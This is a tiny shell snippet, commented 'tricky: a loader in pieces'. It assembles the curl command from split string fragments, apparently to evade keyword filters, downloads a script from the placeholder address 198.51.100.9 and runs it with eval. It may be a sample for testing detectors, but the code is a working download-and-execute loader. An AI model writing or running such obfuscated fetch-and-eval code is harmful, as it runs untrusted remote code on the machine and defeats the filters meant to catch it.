# tricky: a loader in pieces
p1="cu"; p2="rl"; u="198.51.100.9"
run="$p1$p2 -fsS http://$u/l"
out=$($run)
eval "$out"
